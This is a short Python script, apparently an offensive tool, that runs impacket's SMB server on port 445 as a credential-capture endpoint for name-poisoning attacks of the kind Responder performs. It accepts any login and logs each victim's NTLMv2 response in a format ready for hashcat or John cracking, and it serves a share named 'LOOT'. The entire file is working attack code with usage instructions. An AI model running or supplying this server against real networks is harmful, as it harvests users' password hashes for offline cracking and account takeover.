"""A poisoner's SMB capture server, as Responder runs one: impacket's SMB server with
SMB2 on, accepting any login and logging each NTLMv2 response it gets as a
hashcat/John line (user::domain:challenge:proof:blob).

usage: capture_server.py ADDRESS SHARE_DIR
"""
import logging
import sys

from impacket import smbserver

logging.basicConfig(level=logging.INFO, format="%(message)s", stream=sys.stdout)
address, share = sys.argv[1], sys.argv[2]
server = smbserver.SimpleSMBServer(listenAddress=address, listenPort=445)
server.setSMB2Support(True)
server.addShare("LOOT", share, "")
server.start()
